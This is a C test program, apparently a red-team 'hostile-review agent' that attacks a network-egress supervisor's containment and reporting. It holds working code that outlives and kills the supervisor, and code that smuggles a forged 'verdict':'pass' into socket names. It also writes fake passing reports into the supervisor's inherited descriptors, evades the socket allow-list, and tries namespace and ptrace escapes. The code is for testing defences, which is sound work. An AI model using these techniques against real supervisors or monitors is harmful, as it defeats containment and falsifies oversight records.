/* Hostile-review agent (independent of tests/agents/): one binary, several
 * attacks on run integrity (issue 12) and containment (issue 11). Written
 * from the issue text only. Data goes only to loopback or 192.0.2.0/24.
 *
 *   hr-agent survive none|kill|term|stop|hup|cpu|nested MARKER
 *   hr-agent json
 *   hr-agent abandon THREADS SECONDS [OP: 0 connect, 1 udp sendto, 2 tcp sendto, 3 listen, 4
 * pidfd_getfd, 5 IPV6_RTHDR, 6 AF_PACKET] hr-agent table rawclone|nested|rawlisten|rights PORT
 *   hr-agent peek
 *   hr-agent flood N
 *   hr-agent pair [only]
 *   hr-agent userns
 *   hr-agent launch HOST PORT -- PROGRAM ARGS   (a careless caller)
 *   hr-agent recvfd
 *   hr-agent i386
 */
#include "agentlib.h" /* only for its main (agentlib.h): this agent logs its own way */

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <stddef.h>

static void msleep(long ms)
{
	struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
	while (nanosleep(&ts, &ts) != 0 && errno == EINTR)
		;
}

static struct sockaddr_in sin4(const char *ip, int port)
{
	struct sockaddr_in a;
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons((unsigned short)port);
	inet_pton(AF_INET, ip, &a.sin_addr);
	return a;
}

/* ---- survive: a setsid grandchild, then a signal to the supervisor ---- */
static int survive(const char *mode, const char *marker)
{
	pid_t sv = getppid();
	if (!strcmp(mode, "nested")) {
		/* a user and pid namespace of our own: the first child is its init
		 * and stays, the grandchild is a setsid daemon in it */
		int r = unshare(CLONE_NEWUSER | CLONE_NEWPID);
		fprintf(stderr, "hr: unshare(NEWUSER|NEWPID) = %d (%s)\n", r,
			r ? strerror(errno) : "ok");
	}
	pid_t c = fork();
	if (c == 0) {
		setsid();
		if (fork() == 0) {
			prctl(PR_SET_PDEATHSIG, 0);
			for (int i = 0; i < 600; i++) {
				int fd = open(marker, O_WRONLY | O_APPEND | O_CREAT, 0644);
				if (fd >= 0) {
					dprintf(fd, "alive %d pid %d ppid %d\n", i, getpid(),
						getppid());
					close(fd);
				}
				msleep(100);
			}
			_exit(0);
		}
		if (!strcmp(mode, "nested"))
			for (;;)
				pause();
		_exit(0);
	}
	if (strcmp(mode, "nested"))
		waitpid(c, NULL, 0);
	msleep(300);
	int sig = 0;
	if (!strcmp(mode, "kill"))
		sig = SIGKILL;
	else if (!strcmp(mode, "term"))
		sig = SIGTERM;
	else if (!strcmp(mode, "stop"))
		sig = SIGSTOP;
	else if (!strcmp(mode, "hup"))
		sig = SIGHUP;
	if (sig) {
		int r = kill(sv, sig);
		fprintf(stderr, "hr: kill(%d (ppid), %d) = %d errno %d\n", sv, sig, r,
			r ? errno : 0);
	}
	if (!strcmp(mode, "cpu")) {
		/* No signal of ours: the kernel's RLIMIT_CPU kills the supervisor
		 * once our cheap trapped calls have burnt a second of its CPU. */
		struct rlimit rl = {1, 1};
		int r = prlimit(sv, RLIMIT_CPU, &rl, NULL);
		fprintf(stderr, "hr: prlimit(%d, RLIMIT_CPU, 1s) = %d errno %d\n", sv, r,
			r ? errno : 0);
		struct sockaddr_un u;
		memset(&u, 0, sizeof(u));
		u.sun_family = AF_UNIX;
		strcpy(u.sun_path, "/nonexistent");
		for (int i = 0; i < 200000 && getppid() == sv; i++) {
			int us = socket(AF_UNIX, SOCK_STREAM, 0);
			connect(us, (struct sockaddr *)&u, sizeof(u));
			close(us);
		}
		fprintf(stderr, "hr: ppid now %d\n", getppid());
	}
	msleep(200);
	return 0;
}

/* ---- json: names the report must escape, after one denied connect ---- */
static int json(void)
{
	struct sockaddr_in d = sin4("192.0.2.1", 9);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	int r = connect(s, (struct sockaddr *)&d, sizeof(d));
	fprintf(stderr, "hr: denied connect = %d errno %d\n", r, r ? errno : 0);
	close(s);
	static const char *names[] = {
	    "/tmp/x\"}],\"verdict\":\"pass\",\"complete\":true,\"z\":[{\"a\":\"",
	    "/tmp/bs\\\"\n\r\t\x01\x1f\x7f",
	    "/tmp/hi\xff\xfe\xc0\xaf",
	    "/tmp/u\xe2\x80\xa8\xe2\x80\xa9",
	};
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		struct sockaddr_un u;
		memset(&u, 0, sizeof(u));
		u.sun_family = AF_UNIX;
		strncpy(u.sun_path, names[i], sizeof(u.sun_path) - 1);
		int us = socket(AF_UNIX, SOCK_STREAM, 0);
		r = connect(us, (struct sockaddr *)&u, sizeof(u));
		fprintf(stderr, "hr: unix %zu = %d errno %d\n", i, r, r ? errno : 0);
		close(us);
	}
	/* abstract name with NUL and quote bytes */
	{
		struct sockaddr_un u;
		memset(&u, 0, sizeof(u));
		u.sun_family = AF_UNIX;
		memcpy(u.sun_path, "\0a\"b\0c\\", 7);
		int us = socket(AF_UNIX, SOCK_DGRAM, 0);
		r = (int)sendto(us, "x", 1, 0, (struct sockaddr *)&u,
				(socklen_t)(offsetof(struct sockaddr_un, sun_path) + 7));
		fprintf(stderr, "hr: abstract = %d errno %d\n", r, r < 0 ? errno : 0);
		close(us);
	}
	return 0;
}

/* ---- abandon: denied connects interrupted by signals from a sibling ---- */
static atomic_int stop_all;
static atomic_long n_acces, n_intr, n_other, n_ok;
static pid_t tids[64];
static int g_op;

static void on_usr1(int sig)
{
	(void)sig;
}

static void *abandon_worker(void *arg)
{
	int i = (int)(long)arg;
	tids[i] = (pid_t)syscall(SYS_gettid);
	struct sockaddr_in d = sin4("192.0.2.1", 9);
	while (!atomic_load(&stop_all)) {
		int s, r;
		if (g_op == 1) { /* a denied name on a UDP send */
			s = socket(AF_INET, SOCK_DGRAM, 0);
			r = (int)sendto(s, "x", 1, 0, (struct sockaddr *)&d, sizeof(d));
			r = r < 0 ? -1 : 0;
		} else if (g_op == 2) { /* a denied name on a connected TCP-looking send: TCP
					   stream, unconnected */
			s = socket(AF_INET, SOCK_STREAM, 0);
			r = (int)sendto(s, "x", 1, 0, (struct sockaddr *)&d, sizeof(d));
			r = r < 0 ? -1 : 0;
		} else if (g_op == 3) { /* listen on the wildcard */
			s = socket(AF_INET, SOCK_STREAM, 0);
			struct sockaddr_in b = sin4("0.0.0.0", 0);
			bind(s, (struct sockaddr *)&b, sizeof(b));
			r = listen(s, 1);
		} else if (g_op == 4) { /* cross-process: decided on the number alone */
			s = -1;
			r = (int)syscall(SYS_pidfd_getfd, 0, 0, 0);
		} else if (g_op == 5) { /* source route: decided on registers */
			s = socket(AF_INET6, SOCK_DGRAM, 0);
			char hdr[8] = {0};
			r = setsockopt(s, IPPROTO_IPV6, 57 /* IPV6_RTHDR */, hdr, sizeof(hdr));
		} else if (g_op == 6) { /* raw-socket: decided on registers */
			s = socket(17 /* AF_PACKET */, SOCK_RAW, 0);
			r = s < 0 ? -1 : 0;
		} else {
			s = socket(AF_INET, SOCK_DGRAM, 0);
			r = connect(s, (struct sockaddr *)&d, sizeof(d));
		}
		if (r == 0)
			atomic_fetch_add(&n_ok, 1);
		else if (errno == EACCES)
			atomic_fetch_add(&n_acces, 1);
		else if (errno == EINTR)
			atomic_fetch_add(&n_intr, 1);
		else
			atomic_fetch_add(&n_other, 1);
		if (s >= 0)
			close(s);
	}
	return NULL;
}

static int abandon(int nthr, int secs)
{
	struct sigaction sa;
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_usr1; /* no SA_RESTART */
	sigaction(SIGUSR1, &sa, NULL);
	pthread_t th[64];
	if (nthr > 64)
		nthr = 64;
	for (int i = 0; i < nthr; i++)
		pthread_create(&th[i], NULL, abandon_worker, (void *)(long)i);
	msleep(50);
	time_t end = time(NULL) + secs;
	unsigned k = 0;
	pid_t me = getpid();
	while (time(NULL) < end) {
		for (int i = 0; i < nthr; i++)
			if (tids[i])
				syscall(SYS_tgkill, me, tids[i], SIGUSR1);
		/* vary the delay: 0-60 us */
		struct timespec ts = {0, (long)(k++ % 7) * 10000L};
		nanosleep(&ts, NULL);
	}
	atomic_store(&stop_all, 1);
	for (int i = 0; i < nthr; i++)
		pthread_join(th[i], NULL);
	fprintf(stderr, "hr: abandon EACCES %ld EINTR %ld other %ld ok %ld\n",
		atomic_load(&n_acces), atomic_load(&n_intr), atomic_load(&n_other),
		atomic_load(&n_ok));
	return 0;
}

/* ---- table: a thread with its own descriptor table connects/listens N ---- */
#define NFD 40
static int g_port;
static volatile long t_rc = -999, t_errno, t_peer = -1, t_done;
static char t_stack[65536] __attribute__((aligned(16)));

static int g_sp0;
static volatile long r_rc = -999, r_done;
/* Raw clone child for "rights": its own fd 41 is a UDP socket bound to port
 * 41041 on 127.0.0.1 (the leader's 41 is bound to 41042); it passes its 41
 * over the socketpair with SCM_RIGHTS. */
static int raw_rights(void *arg)
{
	(void)arg;
	long s = syscall(SYS_socket, AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in b = sin4("127.0.0.1", 41041);
	syscall(SYS_bind, s, &b, sizeof(b));
	syscall(SYS_dup2, s, 41);
	char cbuf[CMSG_SPACE(sizeof(int))];
	memset(cbuf, 0, sizeof(cbuf));
	struct iovec iov = {"R", 1};
	struct msghdr mh = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
	struct cmsghdr *c = (struct cmsghdr *)cbuf;
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	int n = 41;
	memcpy(CMSG_DATA(c), &n, sizeof(int));
	r_rc = syscall(SYS_sendmsg, g_sp0, &mh, 0);
	r_done = 1;
	syscall(SYS_exit, 0);
	return 0;
}

/* Raw clone child: only raw syscalls (no libc state: errno is shared). */
static int raw_child(void *arg)
{
	int listen_mode = (int)(long)arg;
	long s = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
	syscall(SYS_dup2, s, NFD);
	if (listen_mode) {
		struct sockaddr_in b = sin4("0.0.0.0", 0);
		syscall(SYS_bind, NFD, &b, sizeof(b));
		t_rc = syscall(SYS_listen, NFD, 5);
	} else {
		struct sockaddr_in d = sin4("127.0.0.1", g_port);
		t_rc = syscall(SYS_connect, NFD, &d, sizeof(d));
		struct sockaddr_in p;
		socklen_t pl = sizeof(p);
		t_peer = syscall(SYS_getpeername, NFD, &p, &pl);
	}
	t_done = 1;
	syscall(SYS_exit, 0);
	return 0;
}

static volatile int nested_rc = -999, nested_err, nested_peer = -1;
static void *nested_inner(void *arg)
{
	(void)arg;
	struct sockaddr_in d = sin4("127.0.0.1", g_port);
	nested_rc = connect(NFD, (struct sockaddr *)&d, sizeof(d));
	nested_err = errno;
	struct sockaddr_in p;
	socklen_t pl = sizeof(p);
	nested_peer = getpeername(NFD, (struct sockaddr *)&p, &pl);
	return NULL;
}

static void *nested_outer(void *arg)
{
	(void)arg;
	if (unshare(CLONE_FILES) != 0) {
		perror("hr: unshare");
		return NULL;
	}
	int s = socket(AF_INET, SOCK_STREAM, 0);
	dup2(s, NFD);
	pthread_t u;
	pthread_create(&u, NULL, nested_inner, NULL);
	pthread_join(u, NULL);
	return NULL;
}

static int table(const char *mode, int port)
{
	g_port = port;
	int leader = socket(AF_INET, SOCK_STREAM, 0);
	dup2(leader, NFD);
	close(leader);
	int listen_mode = !strcmp(mode, "rawlisten");
	if (listen_mode) {
		struct sockaddr_in b = sin4("127.0.0.1", 0);
		bind(NFD, (struct sockaddr *)&b, sizeof(b));
	}
	if (!strcmp(mode, "rights")) {
		int sp[2];
		socketpair(AF_UNIX, SOCK_DGRAM, 0, sp);
		g_sp0 = sp[0];
		int y = socket(AF_INET, SOCK_DGRAM, 0);
		struct sockaddr_in b = sin4("127.0.0.1", 41042);
		bind(y, (struct sockaddr *)&b, sizeof(b));
		dup2(y, 41);
		close(y);
		long fl = CLONE_VM | CLONE_THREAD | CLONE_SIGHAND | CLONE_SYSVSEM;
		if (clone(raw_rights, t_stack + sizeof(t_stack), (int)fl, NULL) < 0) {
			perror("hr: clone");
			return 2;
		}
		while (!r_done)
			msleep(10);
		char cbuf[CMSG_SPACE(sizeof(int))], ch;
		struct iovec iov = {&ch, 1};
		struct msghdr mh = {.msg_iov = &iov,
				    .msg_iovlen = 1,
				    .msg_control = cbuf,
				    .msg_controllen = sizeof(cbuf)};
		ssize_t n = recvmsg(sp[1], &mh, MSG_DONTWAIT);
		struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
		int gotport = -1;
		if (n == 1 && c && c->cmsg_type == SCM_RIGHTS) {
			int got;
			memcpy(&got, CMSG_DATA(c), sizeof(int));
			struct sockaddr_in a;
			socklen_t al = sizeof(a);
			if (getsockname(got, (struct sockaddr *)&a, &al) == 0)
				gotport = ntohs(a.sin_port);
		}
		fprintf(
		    stderr,
		    "hr: rights: thread sendmsg rc=%ld; received socket bound to port %d (%s)\n",
		    r_rc, gotport,
		    gotport == 41041   ? "the thread's own: right"
		    : gotport == 41042 ? "the LEADER's: WRONG"
				       : "none");
		return 0;
	}
	if (!strcmp(mode, "rawclone") || !strcmp(mode, "rawlisten")) {
		long fl = CLONE_VM | CLONE_THREAD | CLONE_SIGHAND | CLONE_SYSVSEM;
		int r =
		    clone(raw_child, t_stack + sizeof(t_stack), (int)fl, (void *)(long)listen_mode);
		if (r < 0) {
			perror("hr: clone");
			return 2;
		}
		while (!t_done)
			msleep(10);
		fprintf(stderr, "hr: thread(own table) %s rc=%ld peer_rc=%ld\n", mode, t_rc,
			t_peer);
	} else if (!strcmp(mode, "nested")) {
		pthread_t t;
		pthread_create(&t, NULL, nested_outer, NULL);
		pthread_join(t, NULL);
		fprintf(stderr, "hr: nested thread connect rc=%d errno=%d its peer_rc=%d\n",
			nested_rc, nested_rc ? nested_err : 0, nested_peer);
	}
	struct sockaddr_in p;
	socklen_t pl = sizeof(p);
	int lp = getpeername(NFD, (struct sockaddr *)&p, &pl);
	int lacc = -1;
	if (listen_mode) {
		int v = 0;
		socklen_t vl = sizeof(v);
		getsockopt(NFD, SOL_SOCKET, SO_ACCEPTCONN, &v, &vl);
		lacc = v;
	}
	fprintf(stderr, "hr: leader's fd %d: getpeername rc=%d (0 = connected) acceptconn=%d\n",
		NFD, lp, lacc);
	return 0;
}

/* ---- peek: try to reach the report channel of the supervisor or caller ---- */
static pid_t ppid_of(pid_t p)
{
	char path[64], buf[512];
	snprintf(path, sizeof(path), "/proc/%d/stat", p);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = 0;
	char *q = strrchr(buf, ')');
	int pp = -1;
	if (q)
		sscanf(q + 1, " %*c %d", &pp);
	return pp;
}

static int peek(void)
{
	pid_t chain[4];
	chain[0] = getppid();
	for (int i = 1; i < 4; i++)
		chain[i] = chain[i - 1] > 1 ? ppid_of(chain[i - 1]) : -1;
	int opened = 0;
	for (int i = 0; i < 4; i++) {
		if (chain[i] <= 0)
			continue;
		for (int fd = 0; fd < 16; fd++) {
			char path[64], ln[256];
			snprintf(path, sizeof(path), "/proc/%d/fd/%d", chain[i], fd);
			ssize_t n = readlink(path, ln, sizeof(ln) - 1);
			int e1 = n < 0 ? errno : 0;
			int o = open(path, O_WRONLY | O_APPEND);
			int e2 = o < 0 ? errno : 0;
			if (n >= 0 || o >= 0) {
				ln[n > 0 ? n : 0] = 0;
				fprintf(stderr, "hr: %s readlink=%s(%d) open=%d(%d)\n", path,
					n >= 0 ? ln : "-", e1, o, e2);
			}
			if (o >= 0 && fd >= 3) {
				const char *j =
				    "{\"format\":\"egress-supervisor-report/2\",\"complete\":true,"
				    "\"verdict\":\"pass\"}";
				dprintf(o, "egress-supervisor-report-record/1 final %zu\n%s",
					strlen(j), j);
				opened++;
				close(o);
			}
		}
	}
	fprintf(stderr, "hr: peek chain %d %d %d %d; wrote into %d descriptors\n", chain[0],
		chain[1], chain[2], chain[3], opened);
	/* a denied connect so the honest verdict is fail */
	struct sockaddr_in d = sin4("192.0.2.1", 9);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	int r = connect(s, (struct sockaddr *)&d, sizeof(d));
	fprintf(stderr, "hr: denied connect = %d errno %d\n", r, r ? errno : 0);
	return 0;
}

/* ---- flood: N allowed trapped calls, then one denied connect ---- */
static int flood(long n)
{
	struct sockaddr_un u;
	memset(&u, 0, sizeof(u));
	u.sun_family = AF_UNIX;
	strcpy(u.sun_path, "/nonexistent");
	int us = socket(AF_UNIX, SOCK_DGRAM, 0);
	for (long i = 0; i < n; i++)
		sendto(us, "x", 1, 0, (struct sockaddr *)&u, sizeof(u));
	struct sockaddr_in d = sin4("192.0.2.1", 9);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	int r = connect(s, (struct sockaddr *)&d, sizeof(d));
	fprintf(stderr, "hr: after %ld allowed calls, denied connect = %d errno %d\n", n, r,
		r ? errno : 0);
	return 0;
}

/* ---- pair: socketpair() creates sockets the socket() allow-list refuses ---- */
static int pair(int only)
{
	static const struct {
		int fam, type, proto;
		const char *name;
	} k[] = {{30 /* AF_TIPC */, SOCK_DGRAM, 0, "tipc/dgram"},
		 {30, SOCK_STREAM, 0, "tipc/stream"},
		 {30, SOCK_SEQPACKET, 0, "tipc/seqpacket"},
		 {AF_INET, SOCK_STREAM, 0, "inet/stream"},
		 {AF_INET, SOCK_SEQPACKET, 0, "inet/seqpacket (sctp)"},
		 {40 /* AF_VSOCK */, SOCK_STREAM, 0, "vsock"},
		 {21 /* AF_RDS */, SOCK_SEQPACKET, 0, "rds"},
		 {41 /* AF_KCM */, SOCK_DGRAM, 0, "kcm"}};
	for (size_t i = 0; i < sizeof(k) / sizeof(k[0]); i++) {
		int sv[2] = {-1, -1};
		int r = socketpair(k[i].fam, k[i].type, k[i].proto, sv);
		int e = r ? errno : 0;
		int s = only ? -1 : socket(k[i].fam, k[i].type, k[i].proto);
		int e2 = only ? 0 : s < 0 ? errno : 0;
		fprintf(stderr, "hr: %s: socketpair = %d (%s), socket = %d (%s)\n", k[i].name, r,
			strerror(e), s, strerror(e2));
		if (r == 0) {
			ssize_t w = write(sv[0], "hr", 2);
			char b[4];
			ssize_t rd = read(sv[1], b, sizeof(b));
			fprintf(stderr, "hr:   write %zd read %zd\n", w, rd);
		}
	}
	char buf[256];
	FILE *f = fopen("/proc/modules", "r");
	while (f && fgets(buf, sizeof(buf), f))
		if (!strncmp(buf, "tipc ", 5) || !strncmp(buf, "sctp ", 5))
			fprintf(stderr, "hr: module loaded: %.40s\n", buf);
	if (f)
		fclose(f);
	return 0;
}

/* ---- userns: a root agent takes a user namespace of its own and tries to
 * reach a writable /proc/sys (only opens for writing; never writes) ---- */
static void try_open(const char *what, const char *path)
{
	int fd = open(path, O_WRONLY);
	fprintf(stderr, "hr: %s: open(%s, O_WRONLY) = %d (%s)\n", what, path, fd,
		fd < 0 ? strerror(errno) : "WRITABLE");
	if (fd >= 0)
		close(fd);
}

static int userns(void)
{
	const char *cp = "/proc/sys/kernel/core_pattern";
	try_open("before", cp);
	uid_t u = getuid();
	gid_t g = getgid();
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
		fprintf(stderr, "hr: unshare(NEWUSER|NEWNS): %s\n", strerror(errno));
		return 0;
	}
	char m[64];
	int fd = open("/proc/self/setgroups", O_WRONLY);
	if (fd >= 0) {
		(void)!write(fd, "deny", 4);
		close(fd);
	}
	snprintf(m, sizeof(m), "0 %u 1", u);
	fd = open("/proc/self/uid_map", O_WRONLY);
	fprintf(stderr, "hr: uid_map %s: %zd\n", m, fd >= 0 ? write(fd, m, strlen(m)) : -1L);
	if (fd >= 0)
		close(fd);
	snprintf(m, sizeof(m), "0 %u 1", g);
	fd = open("/proc/self/gid_map", O_WRONLY);
	if (fd >= 0) {
		(void)!write(fd, m, strlen(m));
		close(fd);
	}
	try_open("in userns", cp);
	int r = mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
	fprintf(stderr, "hr: remount /proc/sys rw = %d (%s)\n", r, r ? strerror(errno) : "ok");
	r = umount2("/proc/sys", MNT_DETACH);
	fprintf(stderr, "hr: umount /proc/sys = %d (%s)\n", r, r ? strerror(errno) : "ok");
	try_open("after umount", cp);
	r = umount2("/proc", MNT_DETACH);
	fprintf(stderr, "hr: umount /proc = %d (%s)\n", r, r ? strerror(errno) : "ok");
	try_open("after umount /proc", cp);
	if (unshare(CLONE_NEWPID) == 0) {
		pid_t c = fork();
		if (c == 0) {
			mkdir("/tmp/hr-proc", 0700);
			r = mount("proc", "/tmp/hr-proc", "proc", 0, NULL);
			fprintf(stderr, "hr: new proc mount = %d (%s)\n", r,
				r ? strerror(errno) : "ok");
			if (r == 0)
				try_open("fresh proc", "/tmp/hr-proc/sys/kernel/core_pattern");
			r = mount("sysfs", "/tmp/hr-proc", "sysfs", 0, NULL);
			fprintf(stderr, "hr: new sysfs mount = %d (%s)\n", r,
				r ? strerror(errno) : "ok");
			_exit(0);
		}
		waitpid(c, NULL, 0);
	} else {
		fprintf(stderr, "hr: unshare(NEWPID): %s\n", strerror(errno));
	}
	return 0;
}

/* ---- launch (a careless caller): an AF_UNIX socketpair on stdin whose
 * queue holds a UDP socket the caller connected to HOST:PORT; then exec
 * what follows "--". recvfd: the agent takes it from stdin and writes. ---- */
static int launch(int argc, char **argv)
{
	int i = 2, sp[2];
	while (i < argc && strcmp(argv[i], "--"))
		i++;
	if (i + 1 >= argc || i < 4)
		return 2;
	struct sockaddr_in d = sin4(argv[2], atoi(argv[3]));
	int u = socket(AF_INET, SOCK_DGRAM, 0);
	if (u < 0 || connect(u, (struct sockaddr *)&d, sizeof(d)) != 0 ||
	    socketpair(AF_UNIX, SOCK_STREAM, 0, sp) != 0) {
		perror("hr: launch");
		return 2;
	}
	char cbuf[CMSG_SPACE(sizeof(int))];
	memset(cbuf, 0, sizeof(cbuf));
	struct iovec iov = {"F", 1};
	struct msghdr mh = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
	struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &u, sizeof(int));
	if (sendmsg(sp[1], &mh, 0) != 1) {
		perror("hr: launch sendmsg");
		return 2;
	}
	close(u);
	dup2(sp[0], 0);
	close(sp[0]);
	/* sp[1] stays open in the caller's table only (close-on-exec) */
	fcntl(sp[1], F_SETFD, FD_CLOEXEC);
	execv(argv[i + 1], argv + i + 1);
	perror("hr: launch exec");
	return 127;
}

static int recvfd(void)
{
	char cbuf[CMSG_SPACE(sizeof(int))], b;
	struct iovec iov = {&b, 1};
	struct msghdr mh = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
	ssize_t n = recvmsg(0, &mh, MSG_DONTWAIT);
	struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
	if (n != 1 || !c || c->cmsg_type != SCM_RIGHTS) {
		fprintf(stderr, "hr: recvfd: nothing (%zd, %s)\n", n,
			n < 0 ? strerror(errno) : "no rights");
		return 0;
	}
	int fd;
	memcpy(&fd, CMSG_DATA(c), sizeof(int));
	ssize_t w = write(fd, "hr-secret-from-inherited-queue", 30);
	fprintf(stderr, "hr: recvfd: got fd %d from stdin's queue, write = %zd (%s)\n", fd, w,
		w < 0 ? strerror(errno) : "sent");
	return 0;
}

/* ---- i386: cross-process calls through int 0x80 ---- */
static long int80(long nr, long a, long b, long c)
{
	long ret;
	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
	return ret;
}

static int i386calls(void)
{
	pid_t pp = getppid();
	long pfd = syscall(SYS_pidfd_open, pp, 0);
	fprintf(stderr, "hr: pidfd_open(ppid %d) = %ld errno %d\n", pp, pfd, pfd < 0 ? errno : 0);
	long r = int80(438 /* i386 pidfd_getfd */, pfd, 1, 0);
	fprintf(stderr, "hr: i386 pidfd_getfd = %ld\n", r);
	r = int80(26 /* i386 ptrace */, 16 /* PTRACE_ATTACH */, pp, 0);
	fprintf(stderr, "hr: i386 ptrace attach = %ld\n", r);
	r = syscall(SYS_pidfd_getfd, pfd, 1, 0);
	fprintf(stderr, "hr: x86_64 pidfd_getfd = %ld errno %d\n", r, r < 0 ? errno : 0);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 4 && !strcmp(argv[1], "survive"))
		return survive(argv[2], argv[3]);
	if (argc >= 2 && !strcmp(argv[1], "json"))
		return json();
	if (argc >= 5 && !strcmp(argv[1], "abandon"))
		g_op = atoi(argv[4]);
	if (argc >= 4 && !strcmp(argv[1], "abandon"))
		return abandon(atoi(argv[2]), atoi(argv[3]));
	if (argc >= 4 && !strcmp(argv[1], "table"))
		return table(argv[2], atoi(argv[3]));
	if (argc >= 2 && !strcmp(argv[1], "peek"))
		return peek();
	if (argc >= 3 && !strcmp(argv[1], "flood"))
		return flood(atol(argv[2]));
	if (argc >= 2 && !strcmp(argv[1], "pair"))
		return pair(argc >= 3 && !strcmp(argv[2], "only"));
	if (argc >= 2 && !strcmp(argv[1], "userns"))
		return userns();
	if (argc >= 2 && !strcmp(argv[1], "launch"))
		return launch(argc, argv);
	if (argc >= 2 && !strcmp(argv[1], "recvfd"))
		return recvfd();
	if (argc >= 2 && !strcmp(argv[1], "i386"))
		return i386calls();
	fprintf(stderr, "usage: see source\n");
	return 2;
}
